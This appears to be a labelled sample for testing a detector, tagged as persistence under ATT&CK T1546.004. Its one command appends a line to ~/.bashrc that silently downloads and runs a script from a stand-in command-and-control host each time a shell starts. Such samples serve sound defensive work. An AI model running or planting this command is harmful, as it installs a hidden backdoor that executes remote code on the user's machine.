# expect: persistence | source: T1546.004
echo 'nohup bash -c "$(curl -fsSL https://c2.example.invalid/i)" >/dev/null 2>&1 &' >> ~/.bashrc
